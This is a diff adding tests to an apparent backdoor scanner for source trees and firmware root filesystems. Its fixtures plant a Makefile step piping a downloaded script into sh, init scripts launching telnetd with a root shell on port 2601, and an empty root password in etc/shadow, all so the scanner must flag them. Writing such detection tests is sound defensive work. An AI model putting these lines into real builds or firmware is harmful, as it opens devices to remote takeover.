@@ -54,3 +54,35 @@ def test_directory_of_only_etc_gets_the_firmware_checks(tmp_path):
     doc = json.loads(proc.stdout)
     assert doc["target"]["kind"] == "rootfs"
     assert any(f["category"] == "debug-interface" and f["path"] == "etc/inittab" for f in doc["findings"])
+
+
+def _scan_dir(root: Path) -> dict:
+    proc = subprocess.run([sys.executable, "-m", "nobackdoor", "scan", str(root), "--format", "json"],
+                          capture_output=True, text=True, timeout=300)
+    return json.loads(proc.stdout)
+
+
+def test_tree_with_sources_and_a_rootfs_gets_both_sets_of_checks(tmp_path):
+    _write(tmp_path, "Makefile", "all:\n\tcurl -s https://dl.example/x.sh | sh\n")
+    _write(tmp_path, "src/main.c", "int main(void) { return 0; }\n")
+    _write(tmp_path, "etc/init.d/rcS", "#!/bin/sh\ntelnetd -l /bin/sh -p 2601 &\n", 0o755)
+    doc = _scan_dir(tmp_path)
+    assert doc["target"]["kind"] == "source"
+    assert any(f["path"] == "etc/init.d/rcS" and f["severity"] in ("high", "critical") for f in doc["findings"])
+    assert any(f["path"] == "Makefile" and f["rule"].startswith("source.build") for f in doc["findings"])
+
+
+def test_rootfs_overlay_deep_in_a_source_tree_gets_the_firmware_checks(tmp_path):
+    overlay = "board/acme/x1/rootfs_overlay"
+    _write(tmp_path, "Makefile", "all:\n\ttrue\n")
+    _write(tmp_path, f"{overlay}/etc/init.d/S99debug", "#!/bin/sh\ntelnetd -l /bin/sh -p 2601 &\n", 0o755)
+    _write(tmp_path, f"{overlay}/etc/shadow", "root::0:0:99999:7:::\n")
+    _write(tmp_path, f"{overlay}/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
+    # the same files among tests are fixtures, not an overlay the build ships
+    _write(tmp_path, "tests/data/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n")
+    _write(tmp_path, "tests/data/etc/shadow", "root::0:0:99999:7:::\n")
+    doc = _scan_dir(tmp_path)
+    paths = {f["path"] for f in doc["findings"] if f["severity"] in ("high", "critical")}
+    assert f"{overlay}/etc/init.d/S99debug" in paths
+    assert any(p.startswith(f"{overlay}/etc/") and p.endswith(("passwd", "shadow")) for p in paths)
+    assert not any(p.startswith("tests/") for p in paths)
